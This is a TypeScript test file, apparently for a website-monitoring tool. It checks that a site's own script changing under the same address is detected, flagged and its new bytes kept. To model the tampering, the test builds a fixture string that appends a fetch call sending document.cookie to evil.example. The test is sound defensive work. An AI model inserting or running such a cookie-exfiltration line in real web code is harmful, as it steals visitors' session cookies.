import assert from 'node:assert/strict'
import { hash } from 'node:crypto'
import { forHouse } from '../../../test/support/house.ts'
import { at, MINUTE, monitoringHouse } from '../../../test/support/monitoring.ts'
import { goodVisit, home, HOST } from '../../../test/support/example-visit.ts'
import { learned, look, openChanges } from '../../../test/support/learned-site.ts'
import { pageOf } from '../../../test/support/watched-page.ts'
import type { Observation } from '../../core/observation.ts'

const APP = `https://${HOST}/app.js`
const CODE = 'menu("open")'
const EVIL = `${CODE}; fetch("//evil.example/?" + document.cookie)`

forHouse(
  'a script of the site that changes under its address is found and told, and its bytes are kept',
  monitoringHouse,
  async (h) => {
    const watched = await learned(h)
    /** From now on the site has this script. */
    const serves = (code: string, before: string | null) => {
      const digest = hash('sha256', code)
      const isSame = before === digest
      const [first] = goodVisit()
      assert.ok(first)
      const file: Observation = {
        kind: 'page.file',
        host: HOST,
        ip: first.ip,
        port: 443,
        at: first.at,
        durationMs: 3,
        error: null,
        sha256: isSame ? null : digest,
        url: APP,
        ended: APP,
        status: 200,
        digest,
        length: code.length,
        isAnother: before !== null && !isSame,
        etag: null,
        modified: null,
        ...(!isSame && { bytes: Buffer.from(code) }),
      }
      const visit = goodVisit().filter(
        (one) => one.kind !== 'http.exchange' || one.purpose !== 'home',
      )
      h.probe.show(() => at(h, [...visit, home({}, pageOf()), file]))
    }
    serves(CODE, null)
    await h.pass(5.5 * MINUTE)
    const asked = () => h.probe.visits.at(-1)?.pageFiles?.map(({ url, sha256 }) => [url, sha256])
    assert.ok(asked()?.some(([url, sha256]) => url === APP && sha256 === null))
    const digest = hash('sha256', CODE)
    assert.equal(
      await h.files('monitoring').get(digest),
      null,
      'the first sight of a file is its hash',
    )
    serves(CODE, digest)
    await h.pass(60 * MINUTE)
    assert.ok(asked()?.some(([url, sha256]) => url === APP && sha256 === digest))
    assert.deepEqual(await openChanges(h), [])
    serves(EVIL, digest)
    await look(h, watched)
    assert.deepEqual(await openChanges(h), ['H change.own_file_reaches'])
    assert.equal(
      Buffer.from((await h.files('monitoring').get(hash('sha256', EVIL))) ?? []).toString(),
      EVIL,
    )
  },
)
